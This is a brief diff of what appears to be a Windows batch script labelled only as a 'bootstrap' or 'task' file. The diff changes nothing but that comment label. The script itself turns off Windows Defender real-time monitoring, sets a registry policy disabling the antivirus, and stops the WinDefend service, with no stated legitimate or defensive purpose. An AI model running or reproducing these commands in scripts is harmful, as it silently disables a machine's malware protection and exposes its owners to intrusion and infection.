@@ -1,4 +1,4 @@
-REM bootstrap 7862 v4
+REM task 2584 v4
 powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true"
 reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
 sc stop WinDefend
